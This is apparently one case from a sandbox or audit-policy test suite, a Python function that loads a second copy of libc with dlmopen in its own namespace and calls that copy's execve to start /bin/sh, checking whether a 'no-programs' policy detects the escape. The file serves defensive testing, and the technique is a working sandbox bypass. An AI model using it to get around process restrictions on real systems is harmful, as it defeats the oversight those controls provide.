"""A C library in a namespace of its own
Has dlmopen load libc anew and calls execve of that one.
policy: no-programs
audit: unexpectedProcess
since: 3.6
"""
import ctypes


def attack(at):
    libc = at.libc
    libc.dlmopen.restype = ctypes.c_void_p
    libc.dlmopen.argtypes = [ctypes.c_long, ctypes.c_char_p, ctypes.c_int]
    libc.dlsym.restype = ctypes.c_void_p
    libc.dlsym.argtypes = [ctypes.c_void_p, ctypes.c_char_p]

    def start():
        other = libc.dlmopen(-1, at.libc_path().encode(), 2)
        if not other:
            raise OSError("dlmopen failed")
        execve = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)(libc.dlsym(other, b"execve"))
        execve(b"/bin/sh", at.ARGUMENTS, at.VARIABLES)
    return at.ran(at.captured(start))
